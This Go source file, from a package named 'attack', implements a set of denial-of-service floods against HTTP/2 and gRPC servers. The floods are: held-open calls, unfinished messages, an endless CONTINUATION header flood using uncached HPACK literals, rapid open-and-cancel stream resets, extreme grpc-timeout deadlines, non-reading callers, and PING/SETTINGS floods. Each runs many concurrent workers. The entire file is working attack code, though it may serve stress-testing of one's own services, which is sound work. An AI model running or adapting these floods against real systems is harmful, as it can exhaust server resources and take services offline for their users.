package attack

import (
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// conns runs n workers with a connection each whose answers are read.
func conns(ctx context.Context, t Target, n int, worker func(ctx context.Context, c *Conn)) {
	each(ctx, n, func(ctx context.Context, _ int) {
		ctx, cancel := context.WithCancel(ctx)
		defer cancel()
		c, err := t.Open(ctx)
		if err != nil {
			pause(ctx, 100*time.Millisecond)
			return
		}
		defer c.Close()
		go c.Discard()
		worker(ctx, c)
	})
}

// holdCalls opens calls and waits.
func holdCalls(ctx context.Context, c *Conn, calls int, method string, then func(stream uint32) error) {
	for range calls {
		stream, err := c.Call(method)
		if err == nil && then != nil {
			err = then(stream)
		}
		if err != nil {
			return
		}
	}
	pause(ctx, time.Second)
}

func callsWithoutMessage(ctx context.Context, t Target) {
	conns(ctx, t, 50, func(ctx context.Context, c *Conn) { holdCalls(ctx, c, 100, isActive, nil) })
}

func unfinishedMessages(ctx context.Context, t Target) {
	begin := make([]byte, 40<<10)
	conns(ctx, t, 50, func(ctx context.Context, c *Conn) {
		holdCalls(ctx, c, 100, isActive, func(stream uint32) error { return c.Message(stream, len(begin)+1, begin) })
	})
}

func endlessHeaders(ctx context.Context, t Target) {
	long := strings.Repeat("v", 15<<10)
	conns(ctx, t, 50, func(_ context.Context, c *Conn) {
		stream, err := c.Call(isActive)
		if err != nil {
			return
		}
		stream += 2
		if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: c.literal(long)}); err != nil {
			return
		}
		for range 1000 {
			if c.framer.WriteContinuation(stream, false, c.literal(long)) != nil {
				return
			}
		}
	})
}

// literal returns a header that is not kept in the table of the connection.
func (c *Conn) literal(value string) []byte {
	c.block.Reset()
	block := append([]byte{0x00, 1, 'x', 0x7f}, varint(len(value)-0x7f)...)
	return append(block, value...)
}

// varint returns the rest of a length in HPACK, after its first byte.
func varint(n int) (rest []byte) {
	for n >= 0x80 {
		rest = append(rest, byte(n)|0x80)
		n >>= 7
	}
	return append(rest, byte(n)) //nolint:gosec // below 0x80
}

func refusedWithDeadline(ctx context.Context, t Target) {
	conns(ctx, t, 20, func(_ context.Context, c *Conn) {
		for range 20_000 {
			if _, err := c.Call(isActive, "grpc-timeout", "9999H"); err != nil {
				return
			}
		}
	})
}

// OpenAndCancel opens calls and cancels them at once.
func OpenAndCancel(ctx context.Context, t Target) {
	conns(ctx, t, 20, func(_ context.Context, c *Conn) {
		for i := range 20_000 {
			method := isActive
			if i%2 == 1 {
				method = streamIsActive
			}
			stream, err := c.Call(method)
			if err == nil {
				err = c.Cancel(stream)
			}
			if err != nil {
				return
			}
		}
	})
}

func callersThatDoNotRead(ctx context.Context, t Target) {
	each(ctx, 100, func(ctx context.Context, _ int) {
		c, err := t.Open(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		_ = c.net.SetWriteDeadline(time.Now().Add(2 * time.Second))
		for range 5000 {
			stream, err := c.Call(isActive)
			if err == nil {
				err = c.Message(stream, 0, nil)
			}
			if err != nil {
				break
			}
		}
		pause(ctx, time.Second)
	})
}

func pings(ctx context.Context, t Target) {
	each(ctx, 20, func(ctx context.Context, _ int) {
		c, err := t.Open(ctx)
		if err != nil {
			return
		}
		defer c.Close()
		_ = c.net.SetWriteDeadline(time.Now().Add(2 * time.Second))
		for range 50_000 {
			if c.framer.WritePing(false, [8]byte{}) != nil || c.framer.WriteSettings() != nil {
				return
			}
		}
	})
}
